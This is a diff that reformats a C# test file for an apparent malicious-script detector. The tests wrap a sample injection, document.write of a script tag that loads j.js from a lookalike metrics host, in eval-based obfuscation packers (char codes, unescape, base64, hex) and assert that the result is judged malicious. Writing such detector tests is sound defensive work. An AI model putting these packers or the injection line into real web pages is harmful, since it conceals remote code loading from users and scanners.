@@ -10,7 +10,8 @@ public sealed class HidingAloneTests
 
     private static readonly Dictionary<string, Func<string, string>> _packers = new(StringComparer.Ordinal)
     {
-        ["codes"] = source => $"var c=[{string.Join(',', source.Select(letter => (int)letter))}],s='';for(var i=0;i<c.length;i++)s+=String.fromCharCode(c[i]);eval(s);",
+        ["codes"] = source =>
+            $"var c=[{string.Join(',', source.Select(letter => (int)letter))}],s='';for(var i=0;i<c.length;i++)s+=String.fromCharCode(c[i]);eval(s);",
         ["escapes"] = source => $"eval(unescape('{string.Concat(source.Select(letter => $"%{(int)letter:x2}"))}'));",
         ["base64"] = source => $"eval(atob('{Convert.ToBase64String(System.Text.Encoding.Latin1.GetBytes(source))}'));",
         ["hex texts"] = source => $"Function('{string.Concat(source.Select(letter => $"\\x{(int)letter:x2}"))}')();",
@@ -77,12 +78,18 @@ public sealed class HidingAloneTests
     [Theory]
     [MemberData(nameof(Packers))]
     public void A_tag_that_is_hidden_with_all_of_its_address_is_malicious(string packer) =>
-        Assert.Equal(VerdictKind.Malicious, _judge.Judge(new ScriptToJudge { Source = _packers[packer]("""document.write('<script src="//cdn-metrics-files.example/j.js"><\/script>')""") }).Verdict);
+        Assert.Equal(VerdictKind.Malicious,
+            _judge.Judge(
+            new ScriptToJudge { Source = _packers[packer]("""document.write('<script src="//cdn-metrics-files.example/j.js"><\/script>')""") })
+            .Verdict);
 
     [Theory]
     [MemberData(nameof(Packers))]
     public void A_query_that_the_code_fixes_is_no_way_out(string packer) =>
-        Assert.Equal(VerdictKind.Malicious, _judge.Judge(new ScriptToJudge { Source = _packers[packer]("""document.write('<script src="//cdn-metrics-files.example/j.js?v=7"><\/script>')""") }).Verdict);
+        Assert.Equal(VerdictKind.Malicious,
+            _judge.Judge(
+            new ScriptToJudge { Source = _packers[packer]("""document.write('<script src="//cdn-metrics-files.example/j.js?v=7"><\/script>')""") })
+            .Verdict);
 
     [Fact]
     public void A_library_is_not_judged_by_what_its_timers_are_handed()
